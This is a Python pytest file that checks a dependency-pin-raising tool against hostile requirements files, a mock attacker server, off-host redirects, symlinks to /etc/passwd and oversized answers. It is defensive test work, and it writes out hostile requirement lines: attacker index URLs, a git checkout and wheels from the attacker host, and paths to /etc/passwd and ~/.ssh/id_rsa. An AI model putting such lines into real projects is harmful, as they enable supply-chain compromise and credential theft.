"""Attacks through a legacy code base's dependency files (issue #18: raising pins).

A customer's requirements file may name another index, an include, an editable VCS checkout, a
local file or a URL, or be huge; the index may redirect elsewhere; the customer's tests may try to
reach the index themselves. None of it may make the worker talk to anything but the configured
index, read a host file, or give the sandbox a network: every hostile line is refused by itself,
with the reason, and a second server standing in for the attacker's sees no request at all."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from agents.legacy import package_index
from agents.legacy.pins import raise_pins
from agents.legacy.requirement_files import read_pins
from tests.agents.test_pins import PACKAGES, Index, legacy_tree, serve, write_wheel

HOSTILE = """hivepin==1.0.0
--index-url {evil}/simple
-i {evil}/simple
--extra-index-url {evil}/simple
--trusted-host 127.0.0.1
-f {evil}/wheels
-r more.txt
-c constraints.txt
-e git+{evil}/repo.git#egg=hivebreak
file:///etc/passwd
hivebreak @ {evil}/hivebreak-9.0.0-py3-none-any.whl
{evil}/direct.whl
../../../etc/passwd
~/.ssh/id_rsa
hivebreak==1.0.0; python_version >= "3" and {evil}
hivebreak==1.0.0
"""


@pytest.fixture
def evil() -> Iterator[Index]:
    """The attacker's server: any request it receives fails the test."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield Index(f"http://127.0.0.1:{server.server_address[1]}", seen)
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def index(tmp_path: Path) -> Iterator[Index]:
    folder = tmp_path / "wheels"
    folder.mkdir()
    for name, versions in PACKAGES.items():
        for version, body in versions.items():
            write_wheel(folder, name, version, body)
    yield from serve(folder)


SANDBOX_PROBE = """import urllib.request


def test_the_sandbox_cannot_reach_the_index():
    try:
        urllib.request.urlopen("{url}/hivepin/?from-the-sandbox", timeout=3)
    except OSError:
        return
    raise AssertionError("reached the index from inside the sandbox")
"""


def test_a_hostile_requirements_file_is_refused_line_by_line_and_only_the_index_is_asked(
    tmp_path: Path, index: Index, evil: Index
) -> None:
    tree = legacy_tree(tmp_path / "legacy", HOSTILE.format(evil=evil.url))
    (tree / "more.txt").write_text("hivebreak==1.0.0\n")  # an include: never read
    (tree / "tests" / "test_offline.py").write_text(SANDBOX_PROBE.format(url=index.url))
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    report = raise_pins(tree, index_url=index.url, target_python="3.11", scratch=scratch)
    refused = {int(c.split(":")[1]) for c in report.cannot if c.startswith("requirements.txt:")}
    assert refused == set(range(2, 16))  # every line but the real pin, each by itself
    assert all("(" in c for c in report.cannot)  # each with its reason
    assert report.kept and report.kept[0].startswith("hivebreak ==1.0.0 kept: 1.5.0 broke 1 tests")
    assert [r.line() for r in report.raised] == ["hivepin ==1.0.0 → ==1.4.0 (3 of 3 tests pass against 1.4.0)"]
    assert evil.requests == []
    assert index.requests and all(
        p in ("/simple/hivepin/", "/simple/hivebreak/") or p.startswith("/files/hive") for p in index.requests
    ), index.requests  # the customer's tests ran offline: "?from-the-sandbox" never arrived
    assert "/etc/passwd" in (tree / "requirements.txt").read_text()  # left as written, never opened


def test_a_huge_or_linked_requirements_file_is_not_read_and_nothing_is_asked(tmp_path: Path, index: Index) -> None:
    tree = tmp_path / "legacy"
    tree.mkdir()
    (tree / "requirements.txt").write_bytes(b"hivepin==1.0.0\n" * (10 * 1024 * 1024 // 15))
    (tree / "sub").mkdir()
    (tree / "sub" / "requirements-prod.txt").symlink_to("/etc/passwd")
    (tree / "pyproject.toml").write_text('[project]\ndependencies = "not a list"\n[[broken')
    found = read_pins(tree)
    assert found.pins == () and found.files == ("pyproject.toml", "requirements.txt")
    assert found.cannot[0].startswith("pyproject.toml: not valid TOML")
    assert found.cannot[1].startswith("requirements.txt: 10,485,") and "cap: not read" in found.cannot[1]
    report = raise_pins(tree, index_url=index.url, target_python="3.11", scratch=tmp_path)
    assert report.raised == [] and index.requests == []


def test_an_index_that_redirects_off_its_host_counts_as_unreachable(
    tmp_path: Path, evil: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(302)
            self.send_header("Location", f"{evil.url}/simple/hivepin/")
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/simple"
        tree = legacy_tree(tmp_path / "legacy", "hivepin==1.0.0\n")
        report = raise_pins(tree, index_url=url, target_python="3.11", scratch=tmp_path)
    finally:
        server.shutdown()
        server.server_close()
    assert report.cannot[0].startswith(f"dependency pins not checked: the package index {url} could not be reached")
    assert "a redirect off the index host" in report.cannot[0]
    assert evil.requests == [] and report.raised == []


def test_an_oversized_index_answer_is_cut_off(tmp_path: Path, index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(package_index, "MAX_RESPONSE_BYTES", 64)
    tree = legacy_tree(tmp_path / "legacy", "hivepin==1.0.0\n")
    report = raise_pins(tree, index_url=index.url, target_python="3.11", scratch=tmp_path)
    assert report.raised == [] and report.cannot == ["requirements.txt: hivepin==1.0.0 (an answer over 64 bytes)"]
